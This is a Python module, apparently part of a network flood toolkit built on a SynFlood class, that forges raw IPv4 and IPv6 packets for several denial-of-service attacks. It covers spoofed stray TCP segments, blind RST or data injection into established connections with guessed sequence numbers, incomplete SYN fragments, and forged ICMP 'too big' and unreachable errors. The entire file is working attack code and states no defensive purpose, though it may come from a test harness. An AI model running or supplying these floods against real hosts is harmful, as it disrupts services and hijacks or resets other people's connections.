# SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
"""Floods of everything but SYNs: segments without a connection, blind ones of an established one, ICMP errors, fragments."""

import socket
import struct

from syn_flood import SynFlood, checksum

FIN, SYN, RST, PSH, ACK, URG = 1, 2, 4, 8, 16, 32
SPREAD = 2654435761  # odd, so that all 32-bit numbers come up, far from each other
MORE_FRAGMENTS = 0x2000


def words(data):
    return sum(struct.unpack(f"!{len(data) // 2}H", data))


class _Flood(SynFlood):
    """One packet as the other: what differs is payload(number, source) and the protocol."""

    protocol = socket.IPPROTO_TCP
    fragment = 0

    def syn(self, number):
        source = self.source(number)
        payload = self.payload(number, source)
        if self.six:
            following = socket.IPPROTO_FRAGMENT if self.fragment else self.protocol
            if self.fragment:
                payload = struct.pack("!BBHI", self.protocol, 0, 1, number) + payload
            header = struct.pack("!IHBB16s16s", 6 << 28, len(payload), following, 64, source, self.target)
        else:
            header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), number & 0xFFFF, self.fragment, 64,
                                 self.protocol, 0, source, self.target)
        return header + payload

    def source(self, number):
        return self.network + bytes([10 + number % 240])

    def segment(self, source, sport, flags, seq, ack, data=b""):
        front = struct.pack("!HHIIBBH", sport, self.port, seq, ack, 5 << 4, flags, 1024)
        total = words(source + self.target) + socket.IPPROTO_TCP + len(front) + 4 + len(data) + words(front + data)
        return front + struct.pack("!HH", checksum(total), 0) + data


class StrayFlood(_Flood):
    """Segments with these flags of connections that never were."""

    def __init__(self, node, address, flags):
        super().__init__(node, address)
        self.flags = flags

    def payload(self, number, source):
        return self.segment(source, 1024 + number % 60000, self.flags, number, number, b"NOOP\r\n")


class BlindFlood(_Flood):
    """Segments with these flags that have the ends of an established connection, and any numbers."""

    def __init__(self, node, address, flags, sport):
        super().__init__(node, address)
        self.flags, self.sport = flags, sport
        self.own = socket.inet_pton(socket.AF_INET6 if self.six else socket.AF_INET, node.ip6 if self.six else node.ip4)

    def source(self, number):
        return self.own

    def payload(self, number, source):
        seq, ack = number * SPREAD & 0xFFFFFFFF, number * SPREAD * SPREAD & 0xFFFFFFFF
        return self.segment(source, self.sport, self.flags, seq, ack, b"QUIT\r\n" if self.flags & PSH else b"")


class FragmentFlood(_Flood):
    """First fragments of SYNs: the rest never comes."""

    fragment = MORE_FRAGMENTS

    def payload(self, number, source):
        return self.segment(source, 1024 + number % 60000, SYN, number, 0, bytes(4))


class ErrorFlood(_Flood):
    """ICMP errors that quote what the address never sent, too big first."""

    def __init__(self, node, address):
        super().__init__(node, address)
        self.protocol = socket.IPPROTO_ICMPV6 if self.six else socket.IPPROTO_ICMP

    def payload(self, number, source):
        quoted = struct.pack("!HHI", self.port, 1024 + number % 60000, number)
        if self.six:
            quoted = struct.pack("!IHBB16s16s", 6 << 28, 20, 6, 63, self.target, source) + quoted + bytes(12)
            front = struct.pack("!BBHI", *((2, 0, 0, 1280) if number & 1 else (1, 4, 0, 0)))
            total = words(source + self.target) + len(front + quoted) + socket.IPPROTO_ICMPV6 + words(front + quoted)
        else:
            quoted = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, 0, 0x4000, 63, 6, 0, self.target, source) + quoted
            front = struct.pack("!BBHI", *((3, 4, 0, 576) if number & 1 else (3, 3, 0, 0)))
            total = words(front + quoted)
        return front[:2] + struct.pack("!H", checksum(total)) + front[4:] + quoted
